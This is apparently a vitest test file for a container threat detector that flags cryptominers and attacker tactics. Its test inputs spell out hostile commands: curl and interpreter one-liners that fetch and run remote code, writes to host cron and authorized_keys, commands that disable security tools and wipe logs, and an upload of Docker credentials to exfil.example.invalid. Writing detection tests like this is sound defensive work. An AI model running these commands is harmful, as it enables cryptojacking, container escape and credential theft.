// Edge cases per rule: the severity each rule gives for stronger and weaker evidence, and near-misses.
import { describe, expect, it } from 'vitest';
import { detect } from './detect.js';
import type { DetectionInput } from './types.js';

const XMR = '4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK';
const run = (i: DetectionInput) => detect(i).map((f) => `${f.ruleId}:${f.severity}`);
const sh = (s: string): DetectionInput => ({ cmd: ['sh', '-c', s] });

describe('miner rules', () => {
  it('PCL-MIN-001: runs critical, downloads and uploads high, mentions nothing', () => {
    expect(run({ cmd: ['/opt/xmrig-6.21.0/xmrig'] })).toEqual(['PCL-MIN-001:critical']);
    expect(run(sh('curl -s -O http://198.51.100.2/xmrig'))).toEqual(['PCL-MIN-001:high']);
    expect(run({ archiveMembers: [{ path: '/tmp/.cache/kdevtmpfsi' }] })).toEqual(['PCL-MIN-001:high']);
    expect(run(sh('pkill xmrig || true'))).toEqual(['PCL-TTP-006:high']);
    expect(run({ processes: [{ pid: 9, cmd: '/bin/sh /tmp/xmrig' }] })).toEqual(['PCL-MIN-001:critical', 'PCL-MIN-008:critical']);
  });
  it('PCL-MIN-002: two strong signals are high, more critical; weak flags alone nothing', () => {
    expect(run({ cmd: ['./svc', '-a', 'rx/0'] })).toEqual(['PCL-MIN-002:high']);
    expect(run({ cmd: ['./svc', '--algo=cn/r', '--coin', 'monero'] })).toEqual(['PCL-MIN-002:critical']);
    expect(run({ cmd: ['./svc', '-p', 'x', '-t', '4', '-B', '--tls'] })).toEqual([]);
  });
  it('PCL-MIN-004/005: pool hosts and wallets; BTC/ETH only next to a pool', () => {
    expect(run(sh('nc xmr.nanopool.org 14444'))).toEqual(['PCL-MIN-004:high', 'PCL-MIN-009:high']);
    expect(run({ env: ['DONATE=bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'] })).toEqual([]);
    expect(run({ env: [`W=${XMR}`] })).toEqual(['PCL-MIN-005:high']);
    expect(run({ env: ['W=0x52908400098527886E0F7030069857D2E4169EE7', 'P=stratum+tcp://198.51.100.3:4444'] }))
      .toEqual(['PCL-MIN-003:critical', 'PCL-MIN-005:high']);
  });
  it('PCL-MIN-006: token matching of image names', () => {
    expect(run({ image: 'docker.io/zoolu2/jaav:latest' })).toEqual(['PCL-MIN-006:critical']);
    expect(run({ image: 'evil/cpu_miner' })).toEqual(['PCL-MIN-006:low']);
    expect(run({ image: 'evil/xmr-stak:2' })).toEqual(['PCL-MIN-006:critical']);
    expect(run({ image: 'itzg/minecraft-server' })).toEqual([]);
    // The host root bound into the sibling container is PCL-TTP-012 (high: no engine socket known to be mounted).
    expect(run(sh('docker run -d --restart always -v /:/mnt someone/xmrig'))).toEqual(['PCL-MIN-006:critical', 'PCL-TTP-012:high']);
  });
  it('PCL-MIN-007: xmr-stak pool_list keys and invalid JSON fall back to key search', () => {
    expect(run({ archiveMembers: [{ path: '/pools.txt', content: '"pool_list": [ {"pool_address" : "p:3333", "wallet_address" : "x"' }] }))
      .toEqual(['PCL-MIN-007:critical']);
    expect(run({ archiveMembers: [{ path: '/app/config.json', content: '{"pools": [], "port": 3333}' }] })).toEqual([]);
  });
  it('text rules read echo piped into files and docker -e values, not searches', () => {
    expect(run(sh(`echo '{"pools":[{"url":"198.51.100.3:3333","user":"x","pass":"x"}]}' | tee /tmp/c.json`))).toEqual(['PCL-MIN-007:critical']);
    expect(run(sh('docker run -d -e POOL=stratum+tcp://198.51.100.3:3333 alpine /app'))).toEqual(['PCL-MIN-003:critical']);
    expect(run(sh('ps aux | grep stratum+tcp://; echo supportxmr.com'))).toEqual([]);
  });
  it('PCL-MIN-008: kernel-thread names in a container', () => {
    expect(run({ processes: [{ pid: 3, cmd: '[kworker/0:2]' }] })).toEqual(['PCL-MIN-008:high']);
    expect(run({ processes: [{ pid: 3, cmd: 'nginx: worker process' }] })).toEqual([]);
  });
  it('PCL-MIN-009: pool ports are low alone, ignored on loopback and for listening ports', () => {
    expect(run(sh('nc 203.0.113.8 3333'))).toEqual(['PCL-MIN-009:low']);
    expect(run(sh('curl http://127.0.0.1:3333/health; node app.js --port 3333'))).toEqual([]);
  });
});

describe('tactic rules', () => {
  it('PCL-TTP-001: guessed without mounts, nothing for a data mount, nsenter to PID 1', () => {
    expect(run({ execCmds: [['chroot', '/host', 'bash']] })).toEqual(['PCL-TTP-001:high']);
    expect(run({ binds: ['/srv/data:/data'], cmd: ['chroot', '/data', 'sh'] })).toEqual([]);
    expect(run({ cmd: ['nsenter', '--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', '--', 'bash'] })).toEqual(['PCL-TTP-001:high']);
  });
  it('PCL-TTP-002: bash <(curl), python reading stdin, wget -O - , busybox wget, and curl | tar is fine', () => {
    expect(run(sh('bash <(curl -s http://h.example.invalid/i)'))).toEqual(['PCL-TTP-002:high']);
    expect(run(sh('curl -s http://h.example.invalid/p.py | python3 -'))).toEqual(['PCL-TTP-002:high']);
    expect(run(sh('busybox wget -O - http://198.51.100.1/x | ash'))).toEqual(['PCL-TTP-002:high']);
    expect(run(sh('curl -sL https://h.example.invalid/a.tgz | tar xz -C /opt'))).toEqual([]);
    expect(run(sh('`curl -s http://198.51.100.1/x`'))).toEqual(['PCL-TTP-002:high']);
  });
  it('PCL-TTP-002: interpreters fetching code and running it inline; fetching or running alone is fine', () => {
    expect(run({ cmd: ['python3', '-c', "import urllib.request as u; exec(u.urlopen('http://198.51.100.1/p').read())"] })).toEqual(['PCL-TTP-002:high']);
    expect(run({ cmd: ['perl', '-e', 'use LWP::Simple; eval(get("http://198.51.100.1/p"))'] })).toEqual(['PCL-TTP-002:high']);
    expect(run({ cmd: ['php', '-r', 'eval(file_get_contents("http://198.51.100.1/p"));'] })).toEqual(['PCL-TTP-002:high']);
    expect(run({ cmd: ['node', '-e', "require('http').get('http://198.51.100.1/p', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)); })"] }))
      .toEqual(['PCL-TTP-002:high']);
    expect(run({ cmd: ['ruby', '-e', 'require "open-uri"; eval(URI.open("http://198.51.100.1/r").read)'] })).toEqual(['PCL-TTP-002:high']);
    expect(run({ cmd: ['python3', '-c', 'import requests; print(requests.get("http://h.example.invalid/health").status_code)'] })).toEqual([]);
    expect(run({ cmd: ['python3', '-c', 'import os; os.system("date")'] })).toEqual([]);
  });
  it('PCL-TTP-003: run high, chmod only medium, python downloader', () => {
    expect(run(sh('wget -P /tmp http://198.51.100.1/a; chmod +x /tmp/a'))).toEqual(['PCL-TTP-003:medium']);
    expect(run(sh('curl http://198.51.100.1/b > /tmp/b; sh /tmp/b'))).toEqual(['PCL-TTP-003:high']);
    expect(run(sh(`python3 -c "import urllib.request as u; u.urlretrieve('http://198.51.100.1/c','c')"; ./c`))).toEqual(['PCL-TTP-003:high']);
  });
  it('PCL-TTP-004/005: guessed host paths without mount data are high', () => {
    expect(run({ execCmds: ['echo x >> /mnt/var/spool/cron/root'] })).toEqual(['PCL-TTP-004:high']);
    expect(run({ execCmds: ['cp /tmp/k /hostroot/root/.ssh/authorized_keys'] })).toEqual(['PCL-TTP-005:high']);
    expect(run({ binds: ['/:/mnt'], cmd: ['sh', '-c', 'echo k | tee -a /mnt/root/.ssh/authorized_keys'] })).toEqual(['PCL-TTP-005:critical']);
    expect(run({ binds: ['/etc:/h'], cmd: ['sh', '-c', 'cp /x.service /h/systemd/system/x.service'] })).toEqual(['PCL-TTP-004:critical']);
  });
  it('PCL-TTP-006: docker ps | xargs docker rm, and grep -v is not a target', () => {
    expect(run(sh("docker ps | grep -v mine | awk '{print $1}' | xargs docker rm -f"))).toEqual(['PCL-TTP-006:high']);
    expect(run(sh('ps aux | grep -v xmrig'))).toEqual([]);
  });
  it('PCL-TTP-007: each act alone', () => {
    for (const s of ['systemctl disable --now firewalld', 'service aegis stop', 'unset HISTFILE', 'export HISTFILE=/dev/null',
      'sysctl -w kernel.nmi_watchdog=0', 'rm -rf /usr/local/aegis', 'echo > /var/log/wtmp', 'chattr -ia /etc/passwd']) {
      expect(run(sh(s)), s).toEqual(['PCL-TTP-007:high']);
    }
    expect(run(sh('systemctl restart nginx; rm -rf /tmp/cache'))).toEqual([]);
  });
  it('PCL-TTP-008/010: scanners and Tor without Docker ports or downloads are medium', () => {
    expect(run(sh('nmap -sV 192.0.2.0/24 -p 22,80'))).toEqual(['PCL-TTP-008:medium']);
    expect(run(sh('tor --SocksPort 9050'))).toEqual(['PCL-TTP-010:medium']);
    expect(run(sh('torsocks wget http://198.51.100.1/x'))).toEqual(['PCL-TTP-010:high']);
  });
  it('PCL-TTP-008: remote engines driven over 2375/2376, local sockets not', () => {
    expect(run(sh('DOCKER_HOST=tcp://198.51.100.3:2375 docker ps'))).toEqual(['PCL-TTP-008:high']);
    expect(run(sh('curl -X POST http://198.51.100.3:2376/v1.41/containers/create -d @c.json'))).toEqual(['PCL-TTP-008:high']);
    expect(run(sh('docker -H unix:///var/run/docker.sock ps; docker run --rm alpine true'))).toEqual([]);
    expect(run(sh('docker -H tcp://198.51.100.3:2375 run -d alpine sh -c "xmrig -o 198.51.100.4:3333"')))
      .toEqual(['PCL-MIN-001:critical', 'PCL-MIN-009:high', 'PCL-TTP-008:high']);
  });
  it('PCL-TTP-009: reading is theft, writing a client config is not', () => {
    expect(run(sh('cp ~/.docker/config.json /tmp/.c && curl -F f=@/tmp/.c http://exfil.example.invalid'))).toEqual(['PCL-TTP-009:high']);
    expect(run(sh('echo "$AUTH" > /root/.docker/config.json'))).toEqual([]);
  });
  it('PCL-TTP-011: decoded text that hides a URL but is not run is medium', () => {
    const b = Buffer.from('http://198.51.100.1/cfg').toString('base64');
    expect(run(sh(`echo ${b} | base64 -d > /tmp/u`))).toEqual(['PCL-TTP-011:medium']);
  });
});

describe('robustness', () => {
  it('detect() survives random attacker-shaped input', () => {
    let seed = 7;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
    const parts = ['curl ', 'wget -qO- ', 'http://', '198.51.100.', 'stratum+tcp://', ':3333', ' | sh', ' | base64 -d', 'echo ', 'aGk=',
      'chroot /mnt ', 'sh -c "', '"', "'", '$(', ')', '`', ' > /mnt/etc/cron.d/x', ';', '\n', '-o ', '--donate-level ', '4A', '{"pools":[', '%2', '\\x'];
    for (let i = 0; i < 300; i++) {
      let s = '';
      for (let k = Math.floor(rnd() * 40); k > 0; k--) s += parts[Math.floor(rnd() * parts.length)];
      const f = detect({ cmd: ['sh', '-c', s], env: [s], binds: ['/:/mnt'], processes: [{ cmd: s }], archiveMembers: [{ path: '/x.sh', content: s }] });
      for (const x of f) expect(x.evidence.length).toBeLessThanOrEqual(12);
    }
  });
});
